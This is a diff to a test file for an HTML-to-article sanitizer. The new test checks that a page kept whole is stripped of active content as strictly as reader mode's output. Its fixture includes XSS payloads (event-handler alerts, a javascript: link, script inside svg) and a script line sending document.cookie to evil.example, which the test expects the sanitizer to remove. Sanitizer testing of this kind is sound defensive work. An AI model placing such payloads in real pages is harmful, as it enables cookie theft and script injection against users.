@@ -2,6 +2,7 @@
 import { describe, expect, it } from 'vitest';
 import { htmlToArticle, NOT_AN_ARTICLE_MESSAGE } from '../html-to-article';
 import { PAGE_LIMITS } from '../import-budget';
+import { activeContentIn } from '../test-support/import-fixture';
 
 describe('htmlToArticle', () => {
   it('keeps headings, lists, quotes, tables, code and emphasis; links only for http(s) and mailto; images never', async () => {
@@ -73,6 +74,22 @@ describe('htmlToArticle', () => {
     expect(article.title).toBe('Tide tables');
     expect(article.doc.blocks[0]).toEqual({ type: 'heading', level: 1, children: [{ type: 'text', text: 'Tides' }] });
     expect(JSON.stringify(article.doc)).not.toContain('Menu');
+  });
+
+  it.each([
+    ['its body', (inside: string) => `<body>${inside}</body>`],
+    ['its <main>', (inside: string) => `<body><main>${inside}</main></body>`],
+  ])('sanitizes a page kept whole (%s) as strictly as reader mode\'s article', async (_where, wrap) => {
+    const hostile = `<p onclick="alert(1)">Dock workers said the cranes <a href="javascript:alert(2)">lift</a> twice the load, see <a href="https://example.org/cranes">the cranes</a>.</p>
+      <script>fetch('https://evil.example/?c=' + document.cookie)</script><style>p { background: url(https://evil.example/p.png) }</style>
+      <img src="https://evil.example/pixel.gif" onerror="alert(3)"><iframe src="https://evil.example/frame"></iframe><form action="https://evil.example/post"><input name="q"></form>
+      <svg><script>alert(4)</script></svg><p style="background:url(https://evil.example/bg.png)">More words.</p>`;
+    const filler = '<span>w</span>'.repeat(PAGE_LIMITS.readerElements);
+    const article = await htmlToArticle(`<html><head><title>Cranes</title></head>${wrap(`${hostile}<p>${filler}</p>`)}</html>`);
+    expect(article.notice).toMatch(/without reader mode/);
+    expect(activeContentIn(article.html)).toEqual([]);
+    expect(article.html).toContain('<a href="https://example.org/cranes">the cranes</a>');
+    expect(JSON.stringify(article.doc)).not.toMatch(/evil|alert|cookie/);
   });
 
   it('keeps a deeply nested page whole, and flattens what nests past the limit', async () => {
